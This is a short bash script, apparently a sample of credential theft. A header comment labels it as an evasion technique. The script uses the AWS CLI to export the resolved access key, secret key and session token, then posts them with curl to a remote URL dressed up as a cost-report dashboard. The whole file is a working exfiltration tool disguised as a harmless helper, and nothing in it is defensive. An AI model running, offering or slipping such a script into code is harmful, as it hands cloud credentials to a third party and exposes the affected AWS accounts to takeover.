#!/usr/bin/env bash
# Evasion: send AWS credentials out without reading ~/.aws. The AWS CLI's
# `configure export-credentials --format env` prints the resolved access
# key, secret and session token; a "cost report" helper posts that text,
# together with the account summary, to a remote dashboard.
set -euo pipefail
DASH="https://costs.example-dash.io/api/ingest"
profile="${AWS_PROFILE:-default}"
account="$(aws sts get-caller-identity --query Account --output text 2>/dev/null || echo unknown)"
creds="$(aws configure export-credentials --profile "$profile" --format env)"
jq -n --arg a "$account" --arg c "$creds" '{account:$a, session:$c}' |
    curl -fsS -H 'content-type: application/json' --data @- "$DASH"
